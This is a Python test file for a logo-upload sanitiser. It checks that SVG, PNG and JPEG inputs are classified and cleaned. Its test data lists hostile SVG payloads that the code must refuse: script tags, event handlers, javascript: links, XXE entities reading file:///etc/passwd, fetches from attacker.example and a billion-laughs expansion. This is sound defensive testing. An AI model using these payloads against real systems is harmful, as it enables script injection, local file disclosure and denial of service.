"""A logo is a picture and nothing else, whatever its file says it is."""

from __future__ import annotations

import struct

import pytest

from lep.documents.logo import LARGEST, LogoError, checked
from tests.documents.looks import SVG, png

NAMESPACE = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
EIGHT = "&a;" * 8
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in a group": "<g><g><script/></g></g>",
    "handler": '<rect onload="alert(1)"/>',
    "handler of focus": '<g onfocusin="alert(1)"/>',
    "page inside": "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
    "picture from elsewhere": '<image href="http://attacker.example/x.png"/>',
    "picture from the disk": '<image xlink:href="file:///etc/passwd"/>',
    "picture inside": '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
    "use from elsewhere": '<use href="http://attacker.example/x.svg#a"/>',
    "use from the disk": '<use xlink:href="file:///etc/passwd#a"/>',
    "link that runs": '<a href="javascript:alert(1)"><rect/></a>',
    "style sheet": "<style>@import url(http://attacker.example/x.css);</style>",
    "style that loads": '<rect style="fill: url(http://attacker.example/x)"/>',
    "style that loads, in disguise": '<rect style="fill: \\75rl(http://attacker.example/x)"/>',
    "colour that loads": '<rect fill="url(//attacker.example/x#a)"/>',
    "font from elsewhere": '<text font-family="url(http://attacker.example/x)">x</text>',
    "animation": '<animate attributeName="href" to="javascript:alert(1)"/>',
    "setting": '<set attributeName="href" to="javascript:alert(1)"/>',
    "filter": '<filter id="f"><feImage href="http://attacker.example/x"/></filter>',
    "frame": "<iframe src='http://attacker.example'/>",
    "copies of copies": '<g id="a"><use href="#b"/><use href="#b"/></g><use href="#a"/>',
    "copy of itself": '<use id="a" href="#a"/>',
    "deep": "<g>" * 60 + "</g>" * 60,
    "many": "<rect/>" * 6000,
}
WHOLE = {
    "entity": '<!DOCTYPE svg [<!ENTITY a "x">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">&a;</svg>',
    "entity from the disk": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
    "entity from elsewhere": '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://attacker.example/x"> %a;]><svg/>',
    "a billion laughs": f'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "{EIGHT}">]><svg>&b;</svg>',
    "cut off": SVG[:-20],
    "no drawing": "<html><svg/></html>",
    "no size": '<svg xmlns="http://www.w3.org/2000/svg"/>',
    "no width": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"/>',
    "endless": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e999 1"/>',
    "a line": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9999999 1"/>',
}


@pytest.mark.parametrize("inside", ATTACKS.values(), ids=ATTACKS)
def test_a_drawing_that_could_do_more_than_draw_is_refused(inside: str) -> None:
    with pytest.raises(LogoError) as caught:
        checked(f"<svg {NAMESPACE}>{inside}</svg>".encode())
    assert caught.value.hint


@pytest.mark.parametrize("drawing", WHOLE.values(), ids=WHOLE)
def test_a_drawing_that_is_none_or_unfolds_is_refused(drawing: str) -> None:
    with pytest.raises(LogoError):
        checked(drawing.encode())


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"GIF89a",
        b"%PDF-1.7",
        b"PK\x03\x04",
        b"<html>",
        png()[:20],
        b"\xff\xd8\xff\xe0\x00\x10JFIF",
        b"\xff\xd8\xff\xe0\x00\x00" + b"\0" * 50,
        png(100_000, 100_000),
        png(0, 5),
        b"\x89PNG\r\n\x1a\n" + b"x" * LARGEST,
    ],
    ids=["empty", "gif", "pdf", "zip", "page", "cut png", "cut jpeg", "no length", "bomb", "no width", "large"],
)
def test_what_is_no_decent_picture_is_refused(content: bytes) -> None:
    with pytest.raises(LogoError) as caught:
        checked(content)
    assert caught.value.message


def test_pictures_tell_their_kind_and_proportion() -> None:
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 30, 60) + b"\0" * 20
    jpeg = b"\xff\xd8\xff\xe0\x00\x04ab" + frame
    assert [(one.kind, one.proportion) for one in map(checked, (png(4, 2), jpeg, SVG.encode()))] == [
        ("png", 0.5),
        ("jpeg", 0.5),
        ("svg", 40 / 120),
    ]


def test_what_drawing_programs_add_is_left_out_and_the_drawing_stays() -> None:
    drawing = f"""<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">
    <!-- made by a program --><svg {NAMESPACE} xmlns:i="http://example.org/i" i:version="1" data-x="1">
    <metadata>x</metadata><i:view zoom="3"/>
    <defs><linearGradient id="g"><stop stop-color="red"/></linearGradient></defs>
    <rect width="5" height="5" fill="url(#g)" i:label="x"/><use xlink:href="#g"/></svg>"""
    clean = checked(drawing.encode()).content.decode()
    assert 'fill="url(#g)"' in clean
    assert 'href="#g"' in clean
    assert not [word for word in ("metadata", "zoom", "program", "data-x", "label", "DOCTYPE") if word in clean]


def test_a_cleaned_drawing_is_clean() -> None:
    once = checked(SVG.encode()).content
    assert checked(once).content == once
